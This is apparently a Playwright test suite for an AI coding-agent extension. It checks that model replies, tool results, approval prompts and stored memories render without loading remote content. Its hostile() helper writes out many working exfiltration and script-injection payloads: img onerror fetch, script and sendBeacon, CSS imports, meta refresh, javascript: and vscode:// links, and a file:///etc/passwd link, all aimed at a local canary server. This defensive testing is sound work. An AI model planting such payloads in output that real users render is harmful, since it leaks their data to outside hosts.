import assert from 'node:assert/strict';
import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { Frame } from 'playwright-core';
import type { ScriptedCall, ScriptedReply } from '../support/scripted-model.ts';
import { until } from '../support/until.ts';
import { ask, begin, button, region, remember, result } from './person.ts';
import { type Stage, stage, type Window } from './stage.ts';

const canary = 'canary-e41b77';
const executor = { when: { tool: 'edit_file' } } as const;
const planner = { when: { tool: 'propose_plan' } } as const;
const call = (name: string, args: unknown): ScriptedCall => ({ name, args });
const acts = (...calls: readonly ScriptedCall[]): ScriptedReply => ({ ...executor, calls });

/** Every way to have a page load something that is known to have worked in a chat somewhere. */
const hostile = (at: string): string => {
  const to = (place: string): string => `${at}/${place}?d=${canary}`;
  const inSvg = encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${to('in-data')}"/></svg>`);
  return [
    `![picture](${to('picture')}) ![by reference][ref] ![in data](data:image/svg+xml,${inSvg}) [![linked](${to('linked')})](${to('link')})`,
    `<img src="${to('img')}" srcset="${to('srcset')} 2x" onerror="fetch('${to('onerror')}')"><img src=x style="background:url(${to('style')})">`,
    `<style>@import url("${to('import')}"); body { background: url(${to('background')}) } @font-face { font-family: x; src: url(${to('font')}) }</style>`,
    `<link rel="stylesheet" href="${to('css')}"><link rel="prefetch" href="${to('prefetch')}"><link rel="dns-prefetch" href="//${canary}.example"><link rel="preconnect" href="${at}">`,
    `<script>fetch("${to('script')}"); navigator.sendBeacon("${to('beacon')}")</script><script src="${to('script-src')}"></script>`,
    `<iframe src="${to('iframe')}"></iframe><object data="${to('object')}"></object><embed src="${to('embed')}"><video poster="${to('poster')}" src="${to('video')}" autoplay></video><audio src="${to('audio')}" autoplay></audio>`,
    `<svg><image href="${to('svg')}"/><use href="${to('use')}#a"/></svg><math href="${to('math')}"></math><base href="${at}/"><meta http-equiv="refresh" content="0;url=${to('refresh')}">`,
    `<form action="${to('form')}"><button autofocus onfocus="this.form.submit()"></button></form><a href="${to('ping')}" ping="${to('pinged')}">ping</a>`,
    `[run](command:workbench.action.terminal.new) [link](vscode://openmagus.openmagus/run?goal=${canary}) [script](javascript:fetch('${to('javascript')}')) [file](file:///etc/passwd) [page](data:text/html,${canary})`,
    `<${to('auto')}> ${to('bare')}`,
    `\`\`\`mermaid\ngraph TD; A[<img src=${to('mermaid')}>]-->B; click B href "${to('click')}"\n\`\`\``,
    `\`\`\`html\n<img src="${to('code')}">\n\`\`\``,
    `$$\\includegraphics{${to('math-picture')}}$$ | a |\n| - |\n| ![cell](${to('cell')}) |`,
    `[ref]: ${to('ref')}\n`,
  ].join('\n\n');
};

describe('what a model, a tool or a memory says', () => {
  let on: Stage;
  let window: Window;
  let server: Server;
  let at: string;
  let panel: Frame;
  const heard: string[] = [];
  const asked: string[] = [];
  before(async () => {
    on = await stage();
    // Not the address that the workbench itself comes from.
    server = createServer((request, response) => {
      heard.push(String(request.url));
      response.setHeader('access-control-allow-origin', '*').end('ok');
    }).listen(0, '127.0.0.2');
    await once(server, 'listening');
    at = `http://127.0.0.2:${(server.address() as AddressInfo).port}`;
    window = await on.open('bare');
    window.page.context().on('request', (request) => asked.push(request.url()));
    await writeFile(path.join(window.folder, 'page.md'), hostile(at));
  });
  after(async () => {
    await window.close();
    server.closeAllConnections();
    server.close();
    await on.restore();
  });

  /** Nothing was loaded, and nothing is there that would load or run when it is touched. */
  const quiet = async (view: Frame): Promise<void> => {
    const odd = await view.evaluate(
      (words) => {
        const given = [...document.querySelectorAll('*')].flatMap((element) =>
          [...element.attributes].map(({ name, value }) => ({ tag: element.tagName.toLowerCase(), name, value })),
        );
        const link = ({ tag, name, value }: { tag: string; name: string; value: string }): boolean =>
          tag === 'a' && name === 'href' && /^https?:/.test(value);
        const inert = /^(?:title|aria-.*|value|placeholder|alt|data-.*)$/;
        return given
          .filter((one) => words.some((word) => one.value.includes(word)) && !link(one) && !inert.test(one.name))
          .map(({ tag, name, value }) => `${tag} ${name}=${value}`);
      },
      [canary, '127.0.0.2', 'command:', 'vscode://', 'javascript:'],
    );
    assert.deepEqual(odd, []);
    assert.deepEqual(heard, []);
    assert.deepEqual(
      asked.filter((url) => url.includes(canary) || url.startsWith(at)),
      [],
    );
  };

  it('loads nothing as plan, text, result, question, approval or end', async () => {
    const text = hostile(at);
    const step = { id: 'one', title: text.slice(0, 200), instructions: text, writes: ['a.txt'], doneWhen: text };
    const second = { ...step, id: 'two', after: ['one'] };
    on.play({
      turns: [
        { ...planner, text, calls: [call('propose_plan', { steps: [step, second] })] },
        { ...acts(call('read_file', { path: 'page.md' })), text },
        acts(call('run_command', { command: `cp page.md page3.md # ${text.split('\n')[0]}` })),
        acts(call('ask_user', { question: text, choices: [text.slice(0, 150), 'no'] })),
        acts(call('write_file', { path: 'page2.md', content: text })),
        acts(call('finish_step', { summary: text, evidence: text })),
        acts(call('finish_step', { summary: text, evidence: text })),
        { text },
      ],
    });
    await ask(window, text.slice(0, 1500), 'auto');
    const plan = region(window, 'Plan');
    await plan.waitFor();
    await plan.locator('summary').first().click();
    await quiet(window.chat);
    await plan.getByRole('button', { name: 'Accept', exact: true }).click();
    const approval = region(window, /^Approval/);
    await approval.first().waitFor();
    await quiet(window.chat);
    await approval.getByRole('button', { name: 'Allow', exact: true }).first().click();
    await button(window, 'no').click();
    await approval.first().waitFor();
    await quiet(window.chat);
    await approval.getByRole('button', { name: 'Deny', exact: true }).first().click();
    await result(window).waitFor();
    panel = await window.openPanel('OpenMagus: Open Panel');
    await until(async () => /picture/.test((await panel.locator('body').textContent()) ?? ''));
    await quiet(panel);
    for (const summary of await window.chat.locator('summary').all()) await summary.click().catch(() => undefined);
    await quiet(window.chat);
  });

  it('loads nothing while it is written, and its links ask before they open', async () => {
    on.play({ turns: [{ ...executor, text: hostile(at), silence: true }] });
    await ask(window, 'Tell me', 'act');
    await window.chat.locator('.markdown a').first().waitFor();
    await quiet(window.chat);
    const hrefs = await window.chat
      .locator('.markdown a')
      .evaluateAll((all) => all.map((a) => a.getAttribute('href') ?? ''));
    assert.ok(hrefs.length > 0);
    assert.deepEqual(
      hrefs.filter((href) => !href.startsWith(at)),
      [],
    );
    await window.chat.locator('.markdown a').first().click();
    const dialog = window.page.locator('.monaco-dialog-box');
    await dialog.waitFor();
    assert.match((await dialog.textContent()) ?? '', /Whatever stands in it is told to that host:[\s\S]*canary/);
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await quiet(window.chat);
    await begin(window);
  });

  it('loads nothing as a memory or a graph in the panel', async () => {
    const text = hostile(at);
    await remember(on.home, window.folder, [
      { kind: 'fact', text: text.slice(0, 4000), title: text.slice(0, 150) },
      { kind: 'episode', text, title: text.slice(0, 150), at: '2026-11-20T10:00:00Z' },
    ]);
    panel = await window.openPanel('OpenMagus: Open Memory');
    await window.runCommand('View: Hide Secondary Side Bar');
    await window.page.setViewportSize({ width: 1600, height: 900 });
    await panel.locator('button.memory').first().waitFor();
    for (const memory of await panel.locator('button.memory').all()) {
      await memory.click();
      await panel.getByRole('article', { name: 'Memory' }).waitFor();
      await quiet(panel);
    }
  });

  it('would be seen loading, were it elsewhere; in the view even its own script loads nothing', async () => {
    await panel.evaluate((url) => fetch(url).catch(() => undefined), `${at}/tried`);
    assert.equal(heard.length, 0);
    const elsewhere = await window.page.context().newPage();
    await elsewhere.goto(`${at}/seen`);
    await elsewhere.setContent(hostile(at));
    await until(async () =>
      ['/seen', '/img', '/css', '/iframe'].every((place) => heard.some((url) => url.startsWith(place))),
    );
    assert.ok(asked.some((url) => url.includes(canary)));
    await elsewhere.close();
  });
});
